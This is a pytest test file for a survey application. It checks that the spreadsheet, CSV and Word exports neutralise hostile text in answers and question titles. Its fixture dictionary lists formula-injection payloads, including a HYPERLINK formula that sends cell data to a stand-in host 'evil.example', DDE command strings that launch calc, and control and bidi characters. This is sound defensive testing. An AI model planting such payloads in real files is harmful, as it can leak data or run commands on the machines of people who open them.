"""Hostile or broken text, in an answer and in a question text, still gives valid, inert files."""

import csv
import io
import zipfile

import docx
import openpyxl
import pytest

from survey.extensions import db
from survey.models import Answer, Question
from survey.reports.cells import FORMULA_PREFIXES, MAX_CELL
from survey.reports.docx_report import ReportOptions, write_report
from survey.reports.exports import write_csv_zip, write_xlsx
from survey.reports.table import export_table
from survey.respond import flow

BAD = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "nul": "\x00=1+1 and \x00 inside",
    "controls": "bell\x07 escape\x1b c1\x85\x9f form\x0c",
    "surrogate": "lone \ud800 half \udc00",
    "bidi": "\u202eexe.txt\u202c \u2066isolated\u2069",
    "megabyte": "long " * 200_000,
}


@pytest.fixture
def hostile(make_questionnaire, make_run):
    """Return a questionnaire whose question texts and answers are every bad input."""
    questionnaire = make_questionnaire([{"code": "s", "title": {"en": "=cmd|' /C calc'!A0"}, "questions": [
        {"code": name, "type": "long_text", "text": {"en": text}} for name, text in BAD.items()]}])
    questions = {q.code: q for q in questionnaire.questions}
    for index, name in enumerate(BAD):
        response, _token = flow.start(questionnaire, f"key-{index:02d}", "en")
        response.status, response.completed_on = "completed", response.started_on
        # The value holds every input; the text column (10,000 characters at most, no NUL on
        # PostgreSQL) only those a participant could really send.
        storable = "\x00" not in BAD[name] and "\ud800" not in BAD[name] and len(BAD[name]) < 10_000
        db.session.add(Answer(response_id=response.id, question_id=questions[name].id,
                              value=BAD[name], text=BAD[name] if storable else None))
    db.session.commit()
    answers = db.session.query(Answer).join(Question).filter(Question.code == "equals").all()
    make_run(questionnaire, "equals", {BAD["at"]: answers})
    return questionnaire


def test_xlsx_opens_and_holds_no_formula(hostile):
    out = io.BytesIO()
    write_xlsx(export_table(hostile), out)
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    texts = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_PREFIXES), repr(cell.value[:40])
                    assert len(cell.value) <= MAX_CELL
                    texts.append(cell.value)
    joined = "\n".join(texts)
    assert "'=HYPERLINK(" in joined  # answer and question text, readable but inert
    assert "\u202e" not in joined and "\x00" not in joined and "\ufffd" in joined
    assert "'" + BAD["at"] in [c.value for c in book["Themes"]["B"]]  # a theme label too


def test_csv_zip_is_valid_utf8_and_inert(hostile):
    out = io.BytesIO()
    write_csv_zip(export_table(hostile), out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8-sig")  # strict: no surrogate got through
            assert "\x00" not in text and "\u202e" not in text
            for row in csv.reader(io.StringIO(text, newline="")):
                for value in row:
                    assert not value.startswith(FORMULA_PREFIXES), repr(value[:40])
                    assert len(value) <= MAX_CELL


def test_report_opens_with_every_bad_text(hostile):
    out = io.BytesIO()
    write_report(hostile, out, ReportOptions())
    document = docx.Document(io.BytesIO(out.getvalue()))
    text = "\n".join(p.text for p in document.paragraphs)
    assert '=HYPERLINK("http://evil.example/?"&A1,"Click")' in text  # Word runs no formulas
    assert "\u202e" not in text and "\x00" not in text
    assert "lone \ufffd half \ufffd" in text
